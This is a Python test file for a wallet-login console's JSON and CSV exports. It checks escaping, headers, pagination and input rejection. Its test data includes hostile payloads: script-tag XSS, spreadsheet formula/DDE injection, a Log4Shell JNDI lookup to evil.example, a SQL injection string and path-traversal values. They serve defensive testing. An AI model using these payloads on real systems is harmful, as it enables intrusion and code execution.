"""The console's JSON and CSV: every entry once, and hostile text as text (docs/security.md, 22)."""

import asyncio
import csv
import io
from typing import Any

import pytest

from kisslock import Settings
from kisslock.composition.storage import open_storage
from kisslock.console import export, store
from kisslock.console.console import Console
from kisslock.log.entry import Entry
from kisslock.storage.engine import Storage
from tests.auth.conftest import Clock, code
from tests.console.conftest import Site
from tests.console.history import HOUR_MS, MINUTE_MS, entry, keep
from tests.console.test_recount import NoSessions

NOW = 1_795_256_430_400
SETTINGS = Settings.of()
HOSTILE = [
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example","Click")',
    "\x1b[31mred\x1b[0m",
    "${jndi:ldap://evil.example/a}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a,"b"\r\nc;=1',
]


@pytest.fixture
def site_at_now(site: Site, clock: Clock) -> Site:
    """Return a site at NOW."""
    clock.now = NOW / 1000
    return site


def failed(number: int, text: str) -> Entry:
    error = {"name": text, "message": text, "stack": f"{text}\n  at x"}
    wallet, flow = "=cmd", f"-flow-{number:016d}"
    return entry(at_ms=NOW - number, level="error", code="X/Y", step="failed", wallet=wallet, flow=flow, error=error)


def rows(text: str) -> list[list[str]]:
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_a_json_export_keeps_hostile_text_except_for_control_characters(site_at_now: Site) -> None:
    site_at_now.keep(*(failed(number, text) for number, text in enumerate(HOSTILE)))
    response = site_at_now.operator().client.get("/api/console/errors/groups?code=x/y")
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "\x1b" not in response.text
    groups = response.json()["groups"]
    assert [group["message"] for group in groups] == HOSTILE
    assert response.json()["code"] == "X/Y"
    assert all(group["count"] == 1 and group["first_ms"] == group["last_ms"] for group in groups)


def test_a_csv_export_keeps_hostile_text_as_text(site_at_now: Site) -> None:
    site_at_now.keep(*(failed(number, text) for number, text in enumerate(HOSTILE)))
    response = site_at_now.operator().client.get("/api/console/export.csv?what=entries&range=1h")
    head, *found = rows(response.text)
    assert head == [*export.ENTRY_COLUMNS]
    assert len(found) == len(HOSTILE)
    assert not [cell for row in found for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert "\x1b" not in response.text
    by_column = [dict(zip(head, row, strict=True)) for row in reversed(found)]
    assert [row["message"].removeprefix("'") for row in by_column] == [
        text.replace("\x1b", "\\x1b") for text in HOSTILE
    ]
    assert {row["wallet"] for row in by_column} == {"'=cmd"}
    assert by_column[0]["flow"] == "'-flow-0000000000000000"


@pytest.mark.parametrize("what", ["funnel", "wallets", "errors", "entries"])
def test_an_export_has_the_media_type_and_the_file_name_of_its_format(site_at_now: Site, what: str) -> None:
    client = site_at_now.operator().client
    for name in ("1h", "24h", "7d", "30d"):
        response = client.get(f"/api/console/export.csv?what={what}&range={name}")
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
        assert (
            response.headers["content-disposition"] == f'attachment; filename="kisslock-{what}-{name}-2026-11-21.csv"'
        )
        assert response.headers["cache-control"] == "no-store"
        assert len(rows(response.text)) == (5 if what == "funnel" else 1)


def test_an_export_contains_the_same_numbers_as_the_page(site_at_now: Site) -> None:
    flow = "f" * 20
    about: dict[str, Any] = {"wallet": "rabby", "method": "extension", "flow": flow}
    site_at_now.keep(
        entry(at_ms=NOW - 4, step="opened", flow=flow),
        entry(at_ms=NOW - 3, step="requested", **about),
        entry(at_ms=NOW - 2, step="connected", duration_ms=1000, **about),
        entry(at_ms=NOW - 1, step="failed", level="warn", code="WALLET/REJECTED", **about),
    )
    client = site_at_now.operator().client

    def cells(what: str) -> list[list[str]]:
        return rows(client.get(f"/api/console/export.csv?what={what}").text)[1:]

    assert cells("funnel") == [["opened", "1"], ["wallet_chosen", "0"], ["requested", "1"], ["connected", "1"]]
    median = client.get("/api/console/wallets").json()["wallets"][0]["median_ms"]
    assert cells("wallets") == [["rabby", "extension", "1", "1", str(median), ""]]
    assert cells("errors") == [["WALLET/REJECTED", "1", *["0"] * 11, "1"]]
    assert cells("entries")[2] == [
        "3", "2026-11-21T10:20:30.398Z", "debug", "", "connected", "rabby", "extension", "1000", flow, "", "", "",
    ]  # fmt: skip
    assert '"id","time"' in client.get("/api/console/export.csv?what=entries").text
    assert '\r\n3,"2026-' in client.get("/api/console/export.csv?what=entries").text


@pytest.mark.parametrize("what", ["", "sessions", "entries;", "../entries", "ENTRIES"])
def test_the_error_for_an_unknown_table_lists_the_tables(site_at_now: Site, what: str) -> None:
    response = site_at_now.operator().client.get("/api/console/export.csv", params={"what": what})
    assert code(response) == "400 console/unknown-export"
    assert "funnel, wallets, errors, entries" in response.json()["error"]["hint"]


@pytest.mark.parametrize("path", ["funnel", "wallets", "errors", "export.csv"])
def test_an_unknown_range_is_rejected(site_at_now: Site, path: str) -> None:
    assert code(site_at_now.operator().client.get(f"/api/console/{path}?range=1y")) == "400 console/unknown-range"


def test_a_text_that_cannot_be_an_error_code_has_no_groups(site_at_now: Site) -> None:
    client = site_at_now.operator().client
    for asked in ("", "' OR 1=1 --", "\x00", "X" * 10_000, "é", "\U0001f600"):
        response = client.get("/api/console/errors/groups", params={"code": asked})
        assert (response.status_code, response.json()["groups"]) == (200, []), asked


def test_an_export_works_with_every_error_that_the_log_can_store(site_at_now: Site) -> None:
    site_at_now.keep(
        entry(at_ms=NOW, error={"name": 1, "message": ["=1"], "stack": None}),
        entry(at_ms=NOW + 1, error={"message": {"a": "é漢"}}),
    )
    response = site_at_now.operator().client.get("/api/console/export.csv?what=entries&range=1h")
    assert rows(response.text)[1][-3:] == ["1", "['=1']", ""]


async def test_an_export_contains_every_entry_of_a_range_once_across_all_pages(
    storage: Storage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 7)
    # Many entries have the same time, some are stored later than entries with a later time, and two are just outside of
    # the range.
    moments = [NOW - 59 * MINUTE_MS - 30_400 + (number * number % 23) for number in range(200)]
    moments += [NOW - HOUR_MS, NOW - 59 * MINUTE_MS - 30_401, NOW + 1, NOW]
    await keep(storage, [entry(at_ms=at_ms, step="opened") for at_ms in moments])
    console = Console(SETTINGS, storage, NoSessions(), clock=lambda: NOW / 1000)
    asked: list[int] = []
    page = store.entries_page

    async def counted(*about: Any) -> Any:
        found = await page(*about)
        asked.append(len(found))
        return found

    monkeypatch.setattr(store, "entries_page", counted)
    seen = console.window("1h")
    text = "".join([part.decode() async for part in console.export_table("entries", seen)])
    _, *found = rows(text)
    right = sorted((at_ms, number) for number, at_ms in enumerate(moments, 1) if seen.from_ms <= at_ms <= seen.to_ms)
    assert [int(row[0]) for row in found] == [number for _, number in right]
    assert len(found) == 201
    assert max(asked) == 7


async def test_entries_that_arrive_during_an_export_do_not_make_the_export_endless(tmp_path: Any) -> None:
    storage = open_storage(f"sqlite:///{tmp_path / 'growing.db'}")
    await keep(storage, [entry(at_ms=NOW - 5, step="opened")])
    console = Console(SETTINGS, storage, NoSessions(), clock=lambda: NOW / 1000)
    parts = 0
    async with asyncio.timeout(20):
        async for _ in console.export_table("entries", console.window("1h")):
            parts += 1
            await keep(storage, [entry(at_ms=NOW + parts, step="opened") for _ in range(300)])
    assert parts == 2
    await storage.close()


def test_an_export_contains_no_data_about_visitors() -> None:
    assert not {"address", "ip", "user_agent", "cookie", "url"} & {*export.ENTRY_COLUMNS}
